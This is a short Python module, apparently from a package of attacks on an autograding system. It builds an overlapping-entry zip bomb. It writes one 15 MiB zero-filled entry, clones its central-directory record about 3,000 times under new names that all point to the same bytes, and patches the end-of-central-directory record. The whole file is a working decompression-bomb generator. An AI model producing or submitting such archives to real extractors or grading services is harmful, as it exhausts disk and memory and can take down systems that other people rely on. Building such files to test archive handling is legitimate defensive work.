"""Lets thousands of entries share the same bytes."""

import struct
import zipfile
from pathlib import Path

from autograde.attacks.archives.people import Cast
from autograde.attacks.archives.zipping import pack


def archive(path: Path, cast: Cast) -> None:
    """Write the archive."""
    bomb = cast.mine("b0000.csv")
    pack(path, cast, {bomb: bytes(15 * 2**20)})
    with zipfile.ZipFile(path) as archive:
        start, count = archive.start_dir, len(archive.infolist())
    data = path.read_bytes()
    table = data[start:-22]
    at = table.index(bomb.encode()) - 46
    one = table[at : at + 46 + len(bomb.encode())]
    more = b"".join(one.replace(b"b0000", b"b%04d" % number) for number in range(1, 3000))
    table = more + table
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count + 2999, count + 2999, len(table), start, 0)
    path.write_bytes(data[:start] + table + end)
